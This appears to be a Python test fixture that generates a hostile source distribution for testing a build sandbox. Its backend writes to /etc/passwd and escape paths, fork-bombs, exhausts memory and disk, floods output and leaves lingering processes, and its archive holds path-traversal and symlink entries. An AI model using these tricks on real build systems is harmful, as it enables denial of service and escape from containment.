#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""hostile-sdist.py DIR NAME TRICK: NAME-1.tar.gz in DIR, whose build backend plays TRICK before it builds a wheel.

The wheel is a sound one.
"""
import io
import sys
import tarfile

BACKEND = r'''
import base64, hashlib, os, subprocess, sys, time, zipfile
NAME, TRICK, OUTSIDE = %r, %r, %r

def outside():
    for path in ("/etc/passwd", "/usr/bin/evil", "/evil", "/ocismith.sdist/evil", "/ocismith.pip/evil", "/proc/self/root/evil",
                 "/proc/1/root/evil", "/proc/1/cwd/evil", "../../../../../../../../evil", OUTSIDE + "/evil"):
        for use in (lambda: os.makedirs(os.path.dirname(path), exist_ok=True), lambda: open(path, "a").write("evil\n")):
            try:
                use()
            except OSError:
                pass

def forks():
    while True:
        try:
            os.fork()
        except OSError:
            pass

def hogs():
    while True:
        if os.fork() == 0:
            kept = bytearray(10 << 20)
            time.sleep(600)

def fills():
    for i in range(1 << 30):
        os.makedirs("/var/full/%%d" %% i)
        with open("/var/full/%%d/x" %% i, "wb") as f:
            f.write(bytes(1 << 20))

def sleeps():
    time.sleep(3600)

def floods():
    while True:
        os.write(1, b"x" * 65535 + b"\n")

# pip keeps what a backend writes until it ends
def drowns():
    floods()

# with nothing open that anybody waits for
def stays():
    if os.fork() == 0:
        os.setsid()
        os.closerange(0, 256)
        if os.fork() == 0:
            time.sleep(3600)
        os._exit(0)

def lingers():
    subprocess.Popen(["sh", "-c", "trap '' INT TERM HUP; setsid sleep 424390 & exec sleep 424391"], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    subprocess.call(["sleep", "424302"])

def get_requires_for_build_wheel(config_settings=None):
    # not where pip asks for the metadata
    if TRICK == "floods" and os.path.exists("/ocismith.sdist"):
        floods()
    return []

def metadata():
    return "Metadata-Version: 2.1\nName: %%s\nVersion: 1\n" %% NAME

def prepare_metadata_for_build_wheel(directory, config_settings=None):
    info = NAME + "-1.dist-info"
    os.mkdir(os.path.join(directory, info))
    with open(os.path.join(directory, info, "METADATA"), "w") as f:
        f.write(metadata())
    return info

def build_wheel(directory, config_settings=None, metadata_directory=None):
    if TRICK in globals():
        globals()[TRICK]()
    name, version = NAME, "1"
    info = "%%s-%%s.dist-info/" %% (name, version)
    files = {name + ".py": "", info + "METADATA": metadata(),
             info + "WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
    record = "".join("%%s,sha256=%%s,%%d\n" %% (n, base64.urlsafe_b64encode(hashlib.sha256(t.encode()).digest())
                     .rstrip(b"=").decode(), len(t)) for n, t in files.items()) + info + "RECORD,,\n"
    wheel = "%%s-%%s-py3-none-any.whl" %% (name, version)
    with zipfile.ZipFile(os.path.join(directory, wheel), "w") as z:
        for path, text in [*files.items(), (info + "RECORD", record)]:
            z.writestr(path, text)
    return wheel
'''

out, name, trick = sys.argv[1:]
stem = name + '-1'
files = {'pyproject.toml': '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
         'PKG-INFO': 'Metadata-Version: 2.1\nName: %s\nVersion: 1\n' % name,
         'backend.py': BACKEND % (name, trick, out)}
with tarfile.open('%s/%s.tar.gz' % (out, stem), 'w:gz') as tar:
    for path, text in files.items():
        entry = tarfile.TarInfo(stem + '/' + path)
        entry.size = len(text)
        tar.addfile(entry, io.BytesIO(text.encode()))
    if trick == 'climbing-archive':
        for path in ('../evil', '/evil', stem + '/../../evil'):
            tar.addfile(tarfile.TarInfo(path))
        link = tarfile.TarInfo(stem + '/way')
        link.type, link.linkname = tarfile.SYMTYPE, '../../..'
        tar.addfile(link)
        tar.addfile(tarfile.TarInfo(stem + '/way/evil'))
